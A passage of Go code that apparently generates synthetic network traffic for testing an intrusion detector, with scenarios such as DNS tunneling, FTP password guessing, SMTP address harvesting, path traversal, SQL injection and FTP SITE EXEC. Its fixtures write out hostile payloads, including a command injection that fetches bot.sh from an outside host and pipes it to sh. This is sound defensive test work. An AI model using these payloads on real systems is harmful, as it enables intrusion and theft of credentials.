			"nzsxi5dpojvsa5dlmvrxizdpnfxgozjanbqxgzlsebxxe5dbnr", "pbqxg3dboruw63rao5ugk4tfebuxg5dbnrsg64tfmvzsa5dpeb", "ojqxg5dbnrsgk4tbnruxi6janzsxgy3bnrsxe2ltmvzsa4dfor",
			"mjqxg2lonruw42lomvzsa5dpebzwk3tefzqxg5dsnfxgk4tbob", "onuw4z3fojzsa4tfmfwwk4tjnzthe2lmmvzsa5dpebzwk3tenb", "nfzsa5dpebxgk4tbnrsxgidpnzsxk4zanbqxg5dbnfxgk4tbor",
		}
		for i, c := range chunks {
			n := fmt.Sprintf("%s.t%d.tun.example.com", c, i)
			tt := 4.0 + float64(i)*2
			sp := uint16(41000 + i*13)
			g.at(tt, udpP("10.0.0.42", sp, "198.51.100.53", 53, dnsMsg(uint16(0x3000+i), n, layers.DNSTypeTXT, false, 0, nil)))
			g.at(tt+0.08, udpP("198.51.100.53", 53, "10.0.0.42", sp, dnsMsg(uint16(0x3000+i), n, layers.DNSTypeTXT, true, 0, []layers.DNSResourceRecord{{Name: []byte(n), Type: layers.DNSTypeTXT, Class: layers.DNSClassIN, TTL: 0, TXTs: [][]byte{[]byte("tbaaqaaaaaebqgd4")}}})))
		}
		g.end("dns-tunnel", "dnt-")
	},

	"finger-probes": func(g *G) {
		// Two finger attempts from 198.51.100.44: below the count.
		g.tcp("198.51.100.44", 40700, "10.0.0.3", 79).refused(0.5, 0.02)
		g.tcp("198.51.100.44", 40701, "10.0.0.3", 79).refused(30.0, 0.02)
		// 203.0.113.9 fingers three hosts over two minutes.
		for i, h := range []string{"10.0.0.3", "10.0.0.4", "10.0.0.5"} {
			g.tcp("203.0.113.9", uint16(43000+i), h, 79).refused(60.0+float64(i)*40, 0.02)
		}
		g.end("finger-probes", "fng-")
	},

	"guest-login-failures": func(g *G) {
		// alice mistypes her password twice, then logs in.
		a := g.tcp("198.51.100.61", 50300, "10.0.0.4", 21)
		a.open(0.5, 0.02)
		a.sv(0.6, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt := a.cmds(1.0, 2.0, "USER alice", "331 Please specify the password.", "PASS hunter1", "530 Login incorrect.",
			"USER alice", "331 Please specify the password.", "PASS hunter2", "530 Login incorrect.",
			"USER alice", "331 Please specify the password.", "PASS hunter22", "230 Login successful.")
		tt = a.cmds(tt, 1.0, "QUIT", "221 Goodbye.")
		a.close(tt, 0.02)
		// 203.0.113.120 tries guest accounts.
		k := g.tcp("203.0.113.120", 47810, "10.0.0.4", 21)
		k.open(20.0, 0.03)
		k.sv(20.1, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt = k.cmds(20.5, 1.5, "USER guest", "331 Please specify the password.", "PASS guest", "530 Login incorrect.",
			"USER demo", "331 Please specify the password.", "PASS demo", "530 Login incorrect.",
			"USER visitor", "331 Please specify the password.", "PASS visitor", "530 Login incorrect.")
		k.sv(tt, "FA", "")
		k.cl(tt+0.03, "FA", "")
		k.sv(tt+0.06, "A", "")
		g.end("guest-login-failures", "glf-")
	},

	"guest-password-guessed": func(g *G) {
		// An anonymous download from /pub, without failures.
		a := g.tcp("198.51.100.62", 50400, "10.0.0.4", 21)
		a.open(0.5, 0.02)
		a.sv(0.6, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt := a.cmds(1.0, 0.5, "USER anonymous", "331 Please specify the password.", "PASS mozilla@example.com", "230 Login successful.",
			"CWD /pub", "250 Directory successfully changed.", "PASV", "227 Entering Passive Mode (10,0,0,4,195,80).", "RETR /pub/README", "150 Opening BINARY mode data connection for /pub/README (1024 bytes).")
		d := g.tcp("198.51.100.62", 50401, "10.0.0.4", 50000)
		d.open(tt, 0.02)
		d.sv(tt+0.05, "PA", "Welcome to the example.net archive.\n")
		d.sv(tt+0.06, "FA", "")
		d.cl(tt+0.08, "FA", "")
		d.sv(tt+0.1, "A", "")
		a.sv(tt+0.2, "PA", "226 Transfer complete.\r\n")
		tt = a.cmds(tt+1.0, 0.5, "QUIT", "221 Goodbye.")
		a.close(tt, 0.02)
		// 203.0.113.121 guesses: guest and demo fail, test works.
		k := g.tcp("203.0.113.121", 47900, "10.0.0.4", 21)
		k.open(10.0, 0.03)
		k.sv(10.1, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt = k.cmds(10.5, 1.5, "USER guest", "331 Please specify the password.", "PASS guest", "530 Login incorrect.",
			"USER demo", "331 Please specify the password.", "PASS demo", "530 Login incorrect.",
			"USER test", "331 Please specify the password.", "PASS test", "230 Login successful.",
			"PWD", "257 \"/home/test\" is the current directory")
		tt = k.cmds(tt, 1.0, "QUIT", "221 Goodbye.")
		k.close(tt, 0.03)
		g.end("guest-password-guessed", "gpg-")
	},

	"smtp-recon": func(g *G) {
		// A mail server delivers a message (and checks the postmaster once).
		m := g.tcp("198.51.100.25", 40250, "10.0.0.5", 25)
		m.open(0.5, 0.02)
		m.sv(0.6, "PA", "220 mail.example.net ESMTP Postfix (Debian/GNU)\r\n")
		tt := m.cmds(0.8, 0.1, "EHLO mx.example.org", "250-mail.example.net", "VRFY postmaster", "252 2.0.0 postmaster",
			"MAIL FROM:<alerts@example.org>", "250 2.1.0 Ok", "RCPT TO:<bob@example.net>", "250 2.1.5 Ok", "DATA", "354 End data with <CR><LF>.<CR><LF>")
		m.cl(tt, "PA", "Subject: nightly report\r\n\r\nAll green.\r\n.\r\n")
		m.sv(tt+0.05, "PA", "250 2.0.0 Ok: queued as 4XyZ1\r\n")
		tt = m.cmds(tt+0.1, 0.1, "QUIT", "221 2.0.0 Bye")
		m.close(tt, 0.02)
		// 203.0.113.25 harvests addresses.
		k := g.tcp("203.0.113.25", 51525, "10.0.0.5", 25)
		k.open(5.0, 0.03)
		k.sv(5.1, "PA", "220 mail.example.net ESMTP Postfix (Debian/GNU)\r\n")
		tt = k.cmds(5.3, 0.8, "EHLO scanner", "250-mail.example.net", "VRFY root", "252 2.0.0 root", "VRFY admin", "550 5.1.1 <admin>: Recipient address rejected: User unknown in local recipient table",
			"EXPN staff", "502 5.5.2 Error: command not recognized", "VRFY postmaster", "252 2.0.0 postmaster", "VRFY john", "550 5.1.1 <john>: Recipient address rejected: User unknown in local recipient table",
			"QUIT", "221 2.0.0 Bye")
		k.close(tt, 0.03)
		g.end("smtp-recon", "smr-")
	},

	"rogue-service": func(g *G) {
		// A TLS service on an unassigned port: its banner is the client's hello.
		t := g.tcp("198.51.100.70", 50500, "10.0.0.12", 8443)
		t.open(0.5, 0.02)
		t.cl(0.55, "PA", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
		t.sv(0.6, "PA", "\x16\x03\x03\x00\x7a\x02\x00\x00\x76\x03\x03")
		t.close(1.0, 0.02)
		// An SSH server on 10.0.0.12:2222.
		k := g.tcp("198.51.100.70", 50501, "10.0.0.12", 2222)
		k.open(2.0, 0.02)
		k.sv(2.05, "PA", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
		k.cl(2.07, "PA", "SSH-2.0-OpenSSH_9.6\r\n")
		k.close(3.0, 0.02)
		g.end("rogue-service", "rgs-")
	},

	"ftp-system-file": func(g *G) {
		// webadmin's stolen password, used from 203.0.113.150.
		k := g.tcp("203.0.113.150", 47100, "10.0.0.4", 21)
		k.open(0.5, 0.03)
		k.sv(0.6, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt := k.cmds(1.0, 0.5, "USER webadmin", "331 Please specify the password.", "PASS S3cret!", "230 Login successful.",
			"PASV", "227 Entering Passive Mode (10,0,0,4,195,81).", "LIST /etc", "150 Here comes the directory listing.")
		d := g.tcp("203.0.113.150", 47101, "10.0.0.4", 50001)
		d.open(tt, 0.03)
		d.sv(tt+0.05, "PA", "-rw-r--r--    1 0        0            3040 Nov 02 08:14 adduser.conf\r\n")
		d.sv(tt+0.06, "FA", "")
		d.cl(tt+0.09, "FA", "")
		d.sv(tt+0.12, "A", "")
		k.sv(tt+0.2, "PA", "226 Directory send OK.\r\n")
		tt = k.cmds(tt+1.0, 0.5, "PASV", "227 Entering Passive Mode (10,0,0,4,195,82).", "RETR /etc/passwd", "150 Opening BINARY mode data connection for /etc/passwd (1843 bytes).")
		d = g.tcp("203.0.113.150", 47102, "10.0.0.4", 50002)
		d.open(tt, 0.03)
		d.sv(tt+0.05, "PA", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
		d.sv(tt+0.06, "FA", "")
		d.cl(tt+0.09, "FA", "")
		d.sv(tt+0.12, "A", "")
		k.sv(tt+0.2, "PA", "226 Transfer complete.\r\n")
		tt = k.cmds(tt+1.0, 0.5, "PASV", "227 Entering Passive Mode (10,0,0,4,195,83).", "RETR /var/www/html/index.html", "150 Opening BINARY mode data connection for /var/www/html/index.html (5120 bytes).")
		d = g.tcp("203.0.113.150", 47103, "10.0.0.4", 50003)
		d.open(tt, 0.03)
		d.sv(tt+0.05, "PA", "<!DOCTYPE html>\n<html lang=\"en\">\n")
		d.sv(tt+0.06, "FA", "")
		d.cl(tt+0.09, "FA", "")
		d.sv(tt+0.12, "A", "")
		k.sv(tt+0.2, "PA", "226 Transfer complete.\r\n")
		tt = k.cmds(tt+1.0, 0.5, "QUIT", "221 Goodbye.")
		k.close(tt, 0.03)
		g.end("ftp-system-file", "fsf-")
	},

	"ftp-anonymous-outside-public": func(g *G) {
		// An anonymous upload to /incoming.
		u := g.tcp("198.51.100.63", 50600, "10.0.0.4", 21)
		u.open(0.5, 0.02)
		u.sv(0.6, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt := u.cmds(1.0, 0.5, "USER ftp", "331 Please specify the password.", "PASS ftp@", "230 Login successful.",
			"PASV", "227 Entering Passive Mode (10,0,0,4,195,90).", "STOR /incoming/report-2026-11.pdf", "150 Ok to send data.")
		d := g.tcp("198.51.100.63", 50601, "10.0.0.4", 50010)
		d.open(tt, 0.02)
		d.cl(tt+0.05, "PA", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
		d.close(tt+0.1, 0.02)
		u.sv(tt+0.2, "PA", "226 Transfer complete.\r\n")
		tt = u.cmds(tt+1.0, 0.5, "QUIT", "221 Goodbye.")
		u.close(tt, 0.02)
		// Another reads a file by its relative name, within /pub.
		r := g.tcp("198.51.100.64", 50700, "10.0.0.4", 21)
		r.open(5.0, 0.02)
		r.sv(5.1, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt = r.cmds(5.5, 0.4, "USER anonymous", "331 Please specify the password.", "PASS guest@", "230 Login successful.",
			"CWD pub", "250 Directory successfully changed.", "RETR README", "150 Opening BINARY mode data connection for README (1024 bytes).",
			"QUIT", "221 Goodbye.")
		r.close(tt, 0.02)
		// 198.51.100.88 logs in anonymously, reads /pub, then looks around.
		k := g.tcp("198.51.100.88", 44321, "10.0.0.4", 21)
		k.open(10.0, 0.03)
		k.sv(10.1, "PA", "220 (vsFTPd 3.0.3)\r\n")
		tt = k.cmds(10.5, 0.5, "USER anonymous", "331 Please specify the password.", "PASS anonymous@", "230 Login successful.",
			"CWD /pub", "250 Directory successfully changed.", "PASV", "227 Entering Passive Mode (10,0,0,4,195,91).", "RETR /pub/README", "150 Opening BINARY mode data connection for /pub/README (1024 bytes).")
		d = g.tcp("198.51.100.88", 44322, "10.0.0.4", 50011)
		d.open(tt, 0.03)
		d.sv(tt+0.05, "PA", "Welcome to the example.net archive.\n")
		d.sv(tt+0.06, "FA", "")
		d.cl(tt+0.09, "FA", "")
		d.sv(tt+0.12, "A", "")
		k.sv(tt+0.2, "PA", "226 Transfer complete.\r\n")
		tt = k.cmds(tt+1.0, 0.5, "CWD /home/staff", "250 Directory successfully changed.", "QUIT", "221 Goodbye.")
		k.close(tt, 0.03)
		g.end("ftp-anonymous-outside-public", "fao-")
	},

	"ftp-site-exec": func(g *G) {
		// webadmin changes a file's mode.
		a := g.tcp("198.51.100.61", 50700, "10.0.0.4", 21)
		a.open(0.5, 0.02)
		a.sv(0.6, "PA", "220 example.net FTP server (Version wu-2.6.2(1)) ready.\r\n")
		tt := a.cmds(1.0, 0.5, "USER webadmin", "331 Password required for webadmin.", "PASS S3cret!", "230 User webadmin logged in.",
			"SITE CHMOD 644 /var/www/html/index.html", "200 CHMOD command successful.", "QUIT", "221 Goodbye.")
		a.close(tt, 0.02)
		// 203.0.113.151: anonymous login, then SITE EXEC.
		k := g.tcp("203.0.113.151", 46000, "10.0.0.4", 21)
		k.open(10.0, 0.03)
		k.sv(10.1, "PA", "220 example.net FTP server (Version wu-2.6.2(1)) ready.\r\n")
		tt = k.cmds(10.5, 0.5, "USER anonymous", "331 Guest login ok, send your complete e-mail address as password.", "PASS x@x", "230 Guest login ok, access restrictions apply.",
			"SITE EXEC /bin/sh -c id", "200-uid=14(ftp) gid=50(ftp) groups=50(ftp)", "QUIT", "221 Goodbye.")
		k.close(tt, 0.03)
		g.end("ftp-site-exec", "fse-")
	},

	"http-traversal": func(g *G) {
		s := "203.0.113.160"
		tt := g.httpOnce(0.5, "198.51.100.23", 51000, "10.0.0.6", 80, "GET", "/download.php?file=brochure-2026.pdf", "www.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40100, "10.0.0.6", 80, "GET", "/", "www.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40101, "10.0.0.6", 80, "GET", "/download.php?file=../../../../var/www/app/config/database.yml", "www.example.net", 200, "OK")
		g.end("http-traversal", "htr-")
	},

	"http-traversal-attempt": func(g *G) {
		s := "203.0.113.161"
		tt := g.httpOnce(0.5, s, 40200, "10.0.0.3", 80, "GET", "/icons/apache_pb.gif", "10.0.0.3", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40201, "10.0.0.3", 80, "GET", "/cgi-bin/", "10.0.0.3", 403, "Forbidden")
		tt = g.httpOnce(tt+1, s, 40202, "10.0.0.3", 80, "GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "10.0.0.3", 403, "Forbidden")
		g.end("http-traversal-attempt", "hta-")
	},

	"http-system-file": func(g *G) {
		s := "203.0.113.162"
		tt := g.httpOnce(0.5, s, 40300, "10.0.0.6", 80, "GET", "/wp-login.php", "www.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40301, "10.0.0.6", 80, "GET", "/wp-config-sample.php", "www.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40302, "10.0.0.6", 80, "GET", "/wp-config.php.bak", "www.example.net", 200, "OK")
		g.end("http-system-file", "hsf-")
	},

	"http-sql-injection": func(g *G) {
		s := "203.0.113.163"
		tt := g.httpOnce(0.5, "198.51.100.23", 51000, "10.0.0.6", 80, "GET", "/search.php?q=O%27Reilly+and+Sons", "shop.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40400, "10.0.0.6", 80, "GET", "/products.php?id=1", "shop.example.net", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40401, "10.0.0.6", 80, "GET", "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20users--%20-", "shop.example.net", 200, "OK")
		g.end("http-sql-injection", "hsq-")
	},

	"http-command-injection": func(g *G) {
		s := "203.0.113.164"
		tt := g.httpOnce(0.5, s, 40500, "10.0.0.3", 80, "GET", "/cgi-bin/diag.cgi?host=10.0.0.1&count=3", "10.0.0.3", 200, "OK")
		// Query strings whose names happen to be commands.
		tt = g.httpOnce(tt+0.5, "198.51.100.31", 40600, "10.0.0.3", 80, "GET", "/shop/item.php?sort=price&id=42", "10.0.0.3", 200, "OK")
		tt = g.httpOnce(tt+0.5, "198.51.100.31", 40601, "10.0.0.3", 80, "GET", "/shop/list.php?page=2&cat=shoes&ls=grid", "10.0.0.3", 200, "OK")
		tt = g.httpOnce(tt+1, s, 40501, "10.0.0.3", 80, "GET", "/cgi-bin/diag.cgi?host=10.0.0.1%7Cwget%20http%3A%2F%2F203.0.113.66%2Fbot.sh%20-O-%7Csh&count=3", "10.0.0.3", 200, "OK")
		g.end("http-command-injection", "hci-")
	},
}

func gframe(ls ...gopacket.SerializableLayer) []byte {
	buf := gopacket.NewSerializeBuffer()
	for _, l := range ls {
		for _, n := range ls {
			ip, ok := n.(*layers.IPv4)
			if !ok {
				continue
			}
			if t, ok := l.(*layers.TCP); ok {
				_ = t.SetNetworkLayerForChecksum(ip)
			}
			if u, ok := l.(*layers.UDP); ok {
				_ = u.SetNetworkLayerForChecksum(ip)
			}
		}
	}
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ls...); err != nil {
		panic(err)
	}
	return append([]byte(nil), buf.Bytes()...)
}
